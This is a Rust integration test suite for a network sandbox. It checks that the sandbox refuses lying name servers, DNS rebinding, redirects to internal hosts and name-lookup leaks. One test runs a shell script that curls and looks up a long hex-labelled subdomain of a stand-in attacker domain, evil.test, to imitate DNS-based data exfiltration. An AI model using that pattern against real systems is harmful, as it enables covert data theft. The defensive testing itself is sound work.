// SPDX-License-Identifier: Apache-2.0
//! Attack class B with the shipped binaries: `tornod` and `torno run` in namespaces of their own, a
//! name server that lies in every way we know, and a far side that accepts at every address there
//! is. Right is judged there: no address was dialled but a checked one. Every lie has a harmless
//! twin that must connect.

mod cases;
mod denied;

use crate::stage::{Ran, cannot};
use cases::{Case, Right};
use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;
use std::process::Stdio;
use std::time::{Duration, Instant};
use torno_stage::account::Who;
use torno_stage::daemon::Daemon;
use torno_stage::daemon::level::told;
use torno_stage::world::internet::{DOMAIN, Internet};

/// LIMIT: how long a session may take to be there on a busy machine.
const START_WAIT: Duration = Duration::from_secs(60);

/// The grant of these stories: every name below the domain, and nothing else.
const POLICY: &str = "[sandbox]\nworkspace = { path = \".\", mode = \"none\" }\n\n\
    [[allow]]\nhost = \"*.far.test\"\n";

/// Asks for each name, several at a time; prints the name, the body without line ends, the status.
const ASK_ALL: &str = r#"printf '%s\n' "$@" | xargs -P 8 -I@ sh -c '
printf "%s\n" "@ $(curl -s --max-time 40 -w " %{http_code}" https://@.far.test/ | tr -d "\n")"'"#;

/// A Torno in an internet of its own.
struct Apart {
    internet: Internet,
    daemon: Daemon,
}

impl Apart {
    fn new(cases: &[Case], hosts: &str) -> Self {
        let zone = cases.iter().map(|c| (c.label.clone(), c.entry.clone()));
        let internet = Internet::start(zone.collect(), hosts).unwrap();
        let daemon = Daemon::beyond(Some(internet.door()), &internet.upstreams()).unwrap();
        daemon.write_workspace("torno.toml", POLICY).unwrap();
        daemon.must(&["trust", "--yes"]).unwrap();
        Self { internet, daemon }
    }

    fn run(&self, level: &str, command: &[&str]) -> Ran {
        let output = self.daemon.run(level, command).unwrap();
        Ran {
            stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
            code: output.status.code(),
        }
    }

    /// Asks for every case's name once, in one session: name → what was said.
    fn ask_all(&self, level: &str, cases: &[Case]) -> BTreeMap<String, String> {
        let mut command = vec!["/bin/sh", "-c", ASK_ALL, "ask"];
        command.extend(cases.iter().map(|c| c.label.as_str()));
        let ran = self.run(level, &command).good();
        let lines = ran.stdout.lines().filter_map(|line| line.split_once(' '));
        lines
            .map(|(l, said)| (l.to_owned(), said.to_owned()))
            .collect()
    }

    /// The addresses that were dialled for a name, by the name in the TLS hello.
    fn dialled_for(&self, label: &str) -> BTreeSet<IpAddr> {
        let name = format!("{label}.{DOMAIN}");
        let all = self.internet.dialled();
        let mine = all.iter().filter(|(_, c)| c.sni.as_ref() == Some(&name));
        mine.map(|(address, _)| *address).collect()
    }

    /// Where requests for a name ended, as the record has it: the address, or the reason.
    fn recorded(&self, label: &str) -> Vec<String> {
        let name = format!("\"{label}.{DOMAIN}\"");
        let records = self.daemon.records().unwrap();
        let field = |r: &serde_json::Value, path: &str| r.pointer(path).cloned();
        let mine: BTreeSet<String> = records
            .iter()
            .filter(|r| field(r, "/event/kind") == Some("request_decided".into()))
            .filter(|r| {
                field(r, "/event/endpoint")
                    .unwrap()
                    .to_string()
                    .contains(&name)
            })
            .map(|r| field(r, "/seq").unwrap().to_string())
            .collect();
        let ended = records.iter().filter(|r| {
            field(r, "/event/decision").is_some_and(|d| mine.contains(&d.to_string()))
                && field(r, "/event/kind") == Some("request_ended".into())
        });
        ended
            .map(|r| {
                let said = ["/event/address", "/event/reason"].map(|path| field(r, path));
                let texts = said.iter().flatten().filter_map(|v| v.as_str());
                texts.collect::<Vec<_>>().join(" ")
            })
            .collect()
    }

    #[track_caller]
    fn end(self) {
        self.daemon.must(&["audit", "verify"]).unwrap();
    }
}

fn at_each_level(story: &str, tell: impl Fn(&str)) {
    for &level in told() {
        match cannot(Who::Caller, story, level) {
            None => tell(level),
            Some(why) => println!("SKIP: {story} at {level}: {why}"),
        }
    }
}

/// Judges one case at the far side, in the answer and in the record.
fn judge(apart: &Apart, case: &Case, said: &str) -> Result<(), String> {
    let Case { label, right, .. } = case;
    let (dialled, recorded) = (apart.dialled_for(label), apart.recorded(label));
    let fault = |what: &str| {
        Err(format!(
            "{label}: {what}; wanted {right:?}, said `{said}`, dialled {dialled:?}, recorded \
             {recorded:?}"
        ))
    };
    match right {
        Right::Reached(any_of) => {
            let any_of: BTreeSet<IpAddr> = any_of.iter().copied().collect();
            if said != "reached 200" {
                return fault("not reached");
            }
            if dialled.is_empty() || !dialled.is_subset(&any_of) {
                return fault("another address was dialled");
            }
            let address = dialled.iter().next().map(|a| match a {
                IpAddr::V4(v4) => format!("{v4}:443"),
                IpAddr::V6(v6) => format!("[{v6}]:443"),
            });
            if recorded != address.into_iter().collect::<Vec<_>>() {
                return fault("the record does not hold the address");
            }
        }
        Right::Refused(reasons) => {
            if !dialled.is_empty() {
                return fault("something was dialled");
            }
            if !reasons.iter().any(|reason| said.contains(reason)) {
                return fault("another answer");
            }
            let one = recorded.len() == 1;
            if !one || !recorded.iter().all(|r| reasons.contains(&r.as_str())) {
                return fault("another record");
            }
        }
    }
    Ok(())
}

// ATTACK: 020, 021, 023, 025, 026
#[test]
fn no_answer_of_a_name_server_leads_to_an_address_that_was_not_checked() {
    at_each_level("lying name servers", |level| {
        let cases = cases::all();
        let apart = Apart::new(&cases, cases::HOSTS);
        let said = apart.ask_all(level, &cases);
        let wrong: Vec<String> = cases
            .iter()
            .filter_map(|case| {
                let said = said.get(&case.label).map_or("", String::as_str);
                judge(&apart, case, said).err()
            })
            .collect();
        assert!(wrong.is_empty(), "{level}:\n{}", wrong.join("\n"));
        // Whatever name it was for, TLS or not: nobody was dialled but who may be.
        let fair: BTreeSet<IpAddr> = cases.iter().flat_map(|c| c.right.addresses()).collect();
        let all = apart.internet.dialled();
        let foul: Vec<_> = all.iter().filter(|(a, _)| !fair.contains(a)).collect();
        assert!(foul.is_empty(), "{level}: {foul:?}");
        // No question but for granted names, each with its dot: no search list was tried.
        let asked = apart.internet.names.asked();
        let foreign: Vec<_> = asked
            .iter()
            .filter(|q| q.name.ends_with("corp.test") || q.name.ends_with("evil.test"))
            .collect();
        assert!(foreign.is_empty(), "{foreign:?}");
        apart.end();
    });
}

// ATTACK: 023
#[test]
fn a_name_is_asked_once_for_each_dial_and_the_second_answer_is_checked_like_the_first() {
    at_each_level("rebinding", |level| {
        let cases = cases::rebinding();
        let apart = Apart::new(&cases, "");
        let count = |label: &str, v6: bool| {
            let name = format!("{label}.{DOMAIN}");
            let asked = apart.internet.names.asked();
            asked
                .iter()
                .filter(|q| q.name == name && q.v6 == v6)
                .count()
        };
        let first = apart.ask_all(level, &cases);
        for case in &cases {
            let label = case.label.as_str();
            assert_eq!(judge(&apart, case, &first[label]), Ok(()));
            assert_eq!((count(label, false), count(label, true)), (1, 1), "{label}");
        }
        let before = apart.internet.dialled().len();
        let second = apart.ask_all(level, &cases);
        for case in &cases {
            let label = case.label.as_str();
            let said = &second[label];
            if label == "steady" {
                assert_eq!(said, "reached 200");
            } else {
                assert!(said.contains("address_refused"), "{label}: {said}");
            }
            assert_eq!((count(label, false), count(label, true)), (2, 2), "{label}");
        }
        let after = apart.internet.dialled();
        let names: Vec<_> = after[before..].iter().map(|(_, c)| c.sni.clone()).collect();
        assert_eq!(names, [Some(format!("steady.{DOMAIN}"))]);
        apart.end();
    });
}

// ATTACK: 032
#[test]
fn a_redirect_to_an_internal_name_is_a_request_of_its_own_and_is_refused() {
    at_each_level("redirects to internal names", |level| {
        let cases = cases::redirects();
        let apart = Apart::new(&cases, "");
        let follow = |label: &str| {
            let url = format!("https://start.far.test/to/{label}");
            let command = ["curl", "-sL", "-w", " %{http_code} %{num_redirects}", &url];
            let ran = apart.run(level, &command).good();
            ran.stdout.replace('\n', "")
        };
        assert_eq!(follow("fair"), "reached 200 1");
        let said = follow("inner");
        assert!(
            said.contains("address_refused") && said.ends_with("403 1"),
            "{said}"
        );
        assert!(apart.dialled_for("inner").is_empty());
        // Without a client that follows it, nobody looks the name up.
        let url = "https://start.far.test/to/inner";
        apart
            .run(level, &["curl", "-sS", "-o", "/dev/null", url])
            .good();
        let asked = apart.internet.names.asked();
        let inner = asked
            .iter()
            .filter(|q| q.name == format!("inner.{DOMAIN}") && !q.v6);
        assert_eq!(inner.count(), 1);
        apart.end();
    });
}

// ATTACK: 033
#[test]
fn a_refused_name_is_never_asked_of_the_name_server() {
    at_each_level("refused names", |level| {
        let cases = cases::redirects();
        let apart = Apart::new(&cases, "");
        let leak = "3f9a6c1e".repeat(7);
        let script = format!(
            "for url in https://{leak}.evil.test/ http://{leak}.evil.test/ \
             https://{leak}.deep.far.test/ http://fair.far.test/ https://fair.far.test:8443/; do \
             curl -s -o /dev/null -w '%{{http_code}}\\n' $url; \
             curl -s -o /dev/null -w '%{{http_code}}\\n' -x http://127.0.0.1:3128 $url; done; \
             getent ahosts {leak}.evil.test >/dev/null; \
             curl -s https://start.far.test/"
        );
        let ran = apart.run(level, &["/bin/sh", "-c", &script]).good();
        assert!(ran.stdout.ends_with("reached\n"), "{ran:?}");
        assert!(!ran.stdout.contains("200\n"), "{ran:?}");
        let asked = apart.internet.names.asked();
        let names: BTreeSet<&str> = asked.iter().map(|q| q.name.as_str()).collect();
        assert_eq!(names, BTreeSet::from(["start.far.test"]));
        explain(&apart, level, &leak);
        assert_eq!(apart.internet.names.asked().len(), asked.len());
        apart.end();
    });
}

/// Has the desk explain a refused and a granted name for a session that runs.
fn explain(apart: &Apart, level: &str, leak: &str) {
    let mut run = apart.daemon.run_command(level, &["sleep", "300"]);
    let mut run = run.stderr(Stdio::null()).spawn().unwrap();
    let end = Instant::now() + START_WAIT;
    let session = loop {
        if let Some(session) = apart.daemon.sessions().unwrap().pop() {
            break session;
        }
        assert!(Instant::now() < end, "no session");
        std::thread::sleep(Duration::from_millis(100));
    };
    for (host, says) in [
        (format!("{leak}.evil.test"), "host_not_granted"),
        ("fair.far.test".into(), "allow"),
    ] {
        let url = format!("https://{host}/");
        let explained = ["policy", "explain", "--session", &session, "GET", &url];
        let said = apart.daemon.must(&explained).unwrap();
        assert!(said.contains(says), "{said}");
    }
    apart.daemon.must(&["session", "stop", &session]).unwrap();
    run.wait().unwrap();
}
